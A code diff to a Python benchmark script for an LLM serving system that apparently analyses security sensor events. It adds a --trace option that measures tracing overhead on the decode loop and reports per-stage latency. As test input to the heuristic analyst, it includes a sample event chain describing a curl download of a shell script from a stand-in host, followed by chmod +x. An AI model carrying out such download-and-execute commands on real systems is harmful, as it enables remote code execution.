@@ -151,11 +151,17 @@ def _release_all(engine):
             engine.release(engine.slots[slot])
 
 
-def bench_decode_fused(engine, steps: int):
+def bench_decode_fused(engine, steps: int, tracer=None):
     """Time the fused serving path: engine.decode_fused chunks, greedy,
     no stops — every slot feeds `chunk` tokens per dispatch.  Sequences
     are bounded by max_context, so long timings run in epochs: re-prefill
-    (untimed) and keep timing decode chunks until `steps` are measured."""
+    (untimed) and keep timing decode chunks until `steps` are measured.
+
+    ``tracer`` (a utils.trace.Tracer) turns on the SAME per-dispatch
+    span recording the scheduler does for traced requests (one
+    ``sched.decode_step`` record per slot per chunk), so an A/B of
+    tracer=None vs tracer=GLOBAL measures the true tracing overhead on
+    the hot path (``--trace``)."""
     B, chunk = engine.B, engine.ecfg.decode_chunk
     samp = {s: (0.0, 1.0, 0, 10**6) for s in range(B)}  # greedy, huge budget
     prefill_s = None
@@ -163,6 +169,10 @@ def bench_decode_fused(engine, steps: int):
     timed_chunks = 0
     elapsed = 0.0
     want_chunks = max(1, steps // chunk)
+    if tracer is not None:
+        from chronos_trn.utils.trace import new_span_id, new_trace_id
+        trace_ids = {s: new_trace_id() for s in range(B)}
+        parent_ids = {s: new_span_id() for s in range(B)}
 
     try:
         while timed_chunks < want_chunks:
@@ -173,7 +183,17 @@ def bench_decode_fused(engine, steps: int):
 
             def run_chunk():
                 nonlocal feed, pos
+                t_d0 = time.monotonic()
                 out, done, _ = engine.decode_fused(feed, samp)
+                if tracer is not None:
+                    t_d1 = time.monotonic()
+                    for s in out:
+                        tracer.record(
+                            "sched.decode_step", trace_ids[s],
+                            parent_ids[s], t_d0, t_d1,
+                            attrs={"batch": B, "fused": True,
+                                   "tokens": chunk},
+                        )
                 assert all(len(v) == chunk for v in out.values()), "slot stopped early"
                 feed = {s: int(out[s][-1]) for s in out}
                 pos += chunk
@@ -531,6 +551,80 @@ def bench_prefix_cache(params, mcfg, n_sensors: int = 8, depth: int = 4):
     }
 
 
+def bench_trace_overhead(engine, steps: int, repeats: int = 3):
+    """``--trace`` (ISSUE PR4 acceptance): A/B the fused decode loop with
+    span recording OFF vs ON (the scheduler's per-traced-slot
+    ``sched.decode_step`` records, the only tracing cost on the decode
+    hot path) and report per-stage p50/p99 from everything the run
+    traced.  Best-of-N tok/s on each side damps scheduler noise; the
+    acceptance bar is tracing-on within 5% of tracing-off.
+
+    Also drives ~24 verdicts through the REAL wire path (HTTP server +
+    AnalysisClient, heuristic analyst — no compile) so the breakdown
+    table shows the full stage vocabulary (sensor.analyze, sensor.post,
+    server.generate, heuristic.score, ...), not just decode steps."""
+    from chronos_trn.utils import trace as trace_lib
+
+    tracer = trace_lib.GLOBAL
+    was_enabled = tracer.enabled
+    spans_before = len(tracer)
+    try:
+        tracer.enabled = False
+        off = max(bench_decode_fused(engine, steps)["decode_tokens_per_s"]
+                  for _ in range(repeats))
+        tracer.enabled = True
+        on = max(bench_decode_fused(engine, steps,
+                                    tracer=tracer)["decode_tokens_per_s"]
+                 for _ in range(repeats))
+    finally:
+        tracer.enabled = was_enabled
+
+    # full-pipeline stage vocabulary via the wire (heuristic: no model)
+    from chronos_trn.config import SensorConfig, ServerConfig
+    from chronos_trn.sensor.client import AnalysisClient
+    from chronos_trn.serving.backends import HeuristicBackend
+    from chronos_trn.serving.server import ChronosServer
+
+    tracer.enabled = True
+    server = ChronosServer(HeuristicBackend(),
+                           ServerConfig(host="127.0.0.1", port=0))
+    server.start()
+    try:
+        client = AnalysisClient(SensorConfig(
+            server_url=f"http://127.0.0.1:{server.port}/api/generate"))
+        chain = ["[EXEC] bash -> curl http://x/p.sh",
+                 "[EXEC] bash -> chmod +x /tmp/p.sh",
+                 "[OPEN] cat -> /tmp/p.sh"]
+        for _ in range(24):
+            client.analyze(chain)
+    finally:
+        server.stop()
+        tracer.enabled = was_enabled
+
+    overhead = 1.0 - on / off if off > 0 else 0.0
+    within = on >= 0.95 * off
+    breakdown = trace_lib.stage_breakdown(tracer.spans())
+    log("[bench] per-stage latency breakdown (traced spans):")
+    for line in trace_lib.render_breakdown(breakdown).splitlines():
+        log("[bench]   " + line)
+    log(f"[bench] tracing overhead: off={off:.2f} on={on:.2f} tok/s "
+        f"({overhead:+.2%}) within_5pct={within}")
+    if not within:
+        log("[bench] WARNING: tracing overhead exceeds the 5% budget")
+    return {
+        "trace_off_tokens_per_s": round(off, 2),
+        "trace_on_tokens_per_s": round(on, 2),
+        "trace_overhead_frac": round(max(0.0, overhead), 4),
+        "trace_within_5pct": within,
+        "trace_spans_recorded": len(tracer) - spans_before,
+        "trace_stage_breakdown": {
+            name: {k: round(v, 3) for k, v in row.items()}
+            for name, row in breakdown.items()
+        },
+        "trace_repeats_best_of": repeats,
+    }
+
+
 # --------------------------------------------------------------------------
 def main():
     # The one-JSON-line stdout contract: neuronx-cc subprocesses print
@@ -578,6 +672,13 @@ def main():
                          "(N sensors x growing chains) with the prefix "
                          "KV cache on vs off AFTER the headline: prefill "
                          "tokens computed, hit rate, output equality")
+    ap.add_argument("--trace", action=argparse.BooleanOptionalAction,
+                    default=False,
+                    help="also A/B the fused decode loop with span "
+                         "recording off vs on AFTER the headline and "
+                         "print a per-stage p50/p99 breakdown; reports "
+                         "trace_overhead_frac and whether tracing-on "
+                         "throughput stays within 5% of tracing-off")
     ap.add_argument("--longctx", action=argparse.BooleanOptionalAction,
                     default=False,
                     help="also bench a 4k-context tier (3.2k-token prompt, "
@@ -707,6 +808,14 @@ def main():
             log(f"[bench] prefix cache bench failed: {type(e).__name__}: {e}")
             import traceback
             traceback.print_exc(file=sys.stderr)
+    if args.trace and remaining() > 60:
+        try:
+            detail.update(bench_trace_overhead(engine, max(32, args.steps // 2)))
+            log("[bench] trace overhead done")
+        except Exception as e:
+            log(f"[bench] trace overhead bench failed: {type(e).__name__}: {e}")
+            import traceback
+            traceback.print_exc(file=sys.stderr)
     if args.longctx and remaining() > 240 and result["platform"] == "neuron" \
             and result["config"] == "llama3-8b":
         try:
@@ -715,7 +824,8 @@ def main():
             log(f"[bench] longctx failed: {type(e).__name__}: {e}")
             import traceback
             traceback.print_exc(file=sys.stderr)
-    if args.compare or args.pipeline or args.longctx or args.prefixcache:
+    if args.compare or args.pipeline or args.longctx or args.prefixcache \
+            or args.trace:
         try:
             os.makedirs(os.path.dirname(args.detail_out) or ".", exist_ok=True)
             with open(args.detail_out, "w") as f:
